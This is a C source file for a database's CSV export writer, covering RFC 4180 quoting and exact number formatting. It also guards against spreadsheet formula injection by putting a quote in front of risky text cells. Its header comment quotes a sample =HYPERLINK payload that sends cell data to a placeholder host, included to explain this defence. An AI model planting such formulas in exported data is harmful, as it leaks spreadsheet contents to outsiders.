/*
 * write_csv.c - the CSV export: DIR/<Table>.csv per table, RFC 4180.
 *
 * A header row of the column names, then one record per row; every line
 * ends in CRLF. A field holding a comma, a double quote, CR or LF is
 * quoted, its quotes doubled. NULL is an empty field, an empty text a
 * quoted empty field (""), so the two stay apart. Integers are exact, reals
 * in the shortest digits that read back to the same double; NaN, which the
 * database holds as NULL, is NULL here too, and infinities are "inf" and
 * "-inf" (what Python, pandas and numpy read). Texts are the database's
 * bytes as they are, UTF-8 without a byte order mark, but for one thing:
 *
 * A spreadsheet reads a cell that starts with '=', '+', '-' or '@' as a
 * formula (=HYPERLINK("http://x/?"&A1,"x") is a live link, and Excel
 * evaluates such cells), and one that starts with a tab or CR the same
 * after trimming. So, as OWASP recommends, a text cell starting with one
 * of these six characters gets a single quote in front ('=SUM(A1)) before
 * it is quoted as above; the writer counts them (opmfu_write_stats
 * .prefixed) for a warning. Numbers are never prefixed (-1.5 stays a
 * number); neither is the header. opmfu_csv_verbatim turns the prefix off
 * for scripts that read the files as data.
 */
#include <math.h>
#include <string.h>

#include "write/text_writer.h"

extern const struct opmfu_writer_type opmfu_writer_csv;

/* A text that a spreadsheet would take for a formula. */
static int formula_like(const char *s, size_t n)
{
	return n > 0 && (s[0] == '=' || s[0] == '+' || s[0] == '-' || s[0] == '@' || s[0] == '\t' || s[0] == '\r');
}

/* s as one field; prefix: with a single quote in front. */
static void csv_text(struct sbuf *out, const char *s, size_t n, int prefix)
{
	size_t i, from = 0;
	int quote = n == 0;

	for (i = 0; i < n && !quote; i++)
		quote = s[i] == ',' || s[i] == '"' || s[i] == '\r' || s[i] == '\n';
	if (!quote) {
		if (prefix)
			sbuf_add(out, "'", 1);
		sbuf_add(out, s, n);
		return;
	}
	sbuf_add(out, prefix ? "\"'" : "\"", prefix ? 2 : 1);
	for (i = 0; i < n; i++)
		if (s[i] == '"') {
			/* up to this quote, which the next piece starts with again */
			sbuf_add(out, s + from, i + 1 - from);
			from = i;
		}
	sbuf_add(out, s + from, n - from);
	sbuf_add(out, "\"", 1);
}

static void csv_head(const struct opmfu_table_def *def, struct sbuf *out)
{
	size_t k;
	for (k = 0; k < def->n_cols; k++) {
		if (k)
			sbuf_add(out, ",", 1);
		csv_text(out, def->cols[k].name, strlen(def->cols[k].name), 0);
	}
	sbuf_add(out, "\r\n", 2);
}

/* One row; verbatim: texts as they are, formula-like or not. */
static void csv_cells(const struct opmfu_table_def *def, const struct opmfu_cell *c, struct sbuf *out,
		      struct opmfu_text_reals *reals, struct opmfu_write_stats *st, int verbatim)
{
	size_t k;

	for (k = 0; k < def->n_cols; k++) {
		if (k)
			sbuf_add(out, ",", 1);
		if (c[k].null)
			continue;
		if (def->cols[k].type == OPMFU_COL_INT)
			opmfu_text_int(out, c[k].v.i);
		else if (def->cols[k].type == OPMFU_COL_TEXT || def->cols[k].type == OPMFU_COL_BLOB) {
			int prefix = !verbatim && formula_like(c[k].v.t.s, c[k].v.t.n);
			st->prefixed += (size_t)prefix;
			csv_text(out, c[k].v.t.s, c[k].v.t.n, prefix);
		}
		else if (!isnan(c[k].v.r))
			opmfu_text_real(out, reals, c[k].v.r);
	}
	sbuf_add(out, "\r\n", 2);
}

static void csv_row(const struct opmfu_table_def *def, const struct opmfu_cell *c, struct sbuf *out,
		    struct opmfu_text_reals *reals, struct opmfu_write_stats *st)
{
	csv_cells(def, c, out, reals, st, 0);
}

static void csv_row_verbatim(const struct opmfu_table_def *def, const struct opmfu_cell *c, struct sbuf *out,
			     struct opmfu_text_reals *reals, struct opmfu_write_stats *st)
{
	csv_cells(def, c, out, reals, st, 1);
}

static const struct opmfu_text_format csv_format = { ".csv", csv_head, csv_row };
static const struct opmfu_text_format csv_verbatim_format = { ".csv", csv_head, csv_row_verbatim };

void opmfu_csv_verbatim(struct opmfu_writer *w)
{
	opmfu_text_set_format(w, &csv_verbatim_format);
}

static enum opmfu_status csv_open(struct opmfu_writer **w, const char *dir, const struct opmfu_table_def *const *defs,
				  size_t n_defs, struct opmfu_err *err)
{
	return opmfu_text_open(w, &opmfu_writer_csv, &csv_format, dir, defs, n_defs, err);
}

const struct opmfu_writer_type opmfu_writer_csv = {
	"csv", "csv", csv_open, opmfu_text_put, opmfu_text_keep_rank, opmfu_text_drop_rank, opmfu_text_commit,
	opmfu_text_close, NULL,
};
